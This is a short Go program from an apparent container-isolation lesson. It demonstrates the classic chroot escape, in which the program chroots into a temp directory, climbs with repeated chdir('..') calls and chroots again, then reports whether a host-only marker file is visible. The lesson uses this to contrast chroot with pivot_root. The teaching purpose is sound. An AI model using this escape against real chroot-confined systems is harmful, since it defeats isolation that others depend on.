// Command escape is the classic way out of a chroot(2), for the 07-pivotroot
// lesson. chroot changes how "/" is resolved, not the current directory; and
// ".." stops at the root only when climbing from inside it. So:
//
//	mkdir x; chroot x   the root is now x, but the current directory is not in it
//	chdir .. (often)    climbs freely, up to the real root of the mount namespace
//	chroot .            makes that the root again
//
// It needs CAP_SYS_CHROOT. Then it reports whether MARKER, a path that exists
// only on the host, is visible. Under pivot_root there is no host tree left in
// the mount namespace to climb to.
//
//	escape MARKER
package main

import (
	"fmt"
	"os"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) != 2 {
		fmt.Fprintln(os.Stderr, "usage: escape MARKER")
		os.Exit(2)
	}
	marker := os.Args[1]
	x, err := os.MkdirTemp("/tmp", "escape-")
	check(err)
	check(unix.Chroot(x))
	for i := 0; i < 100; i++ {
		check(unix.Chdir(".."))
	}
	check(unix.Chroot("."))
	if _, err := os.Stat(marker); err == nil {
		fmt.Println("escaped: I can see", marker)
	} else {
		fmt.Println("still inside: no", marker)
	}
}

func check(err error) {
	if err != nil {
		fmt.Fprintln(os.Stderr, "escape:", err)
		os.Exit(1)
	}
}
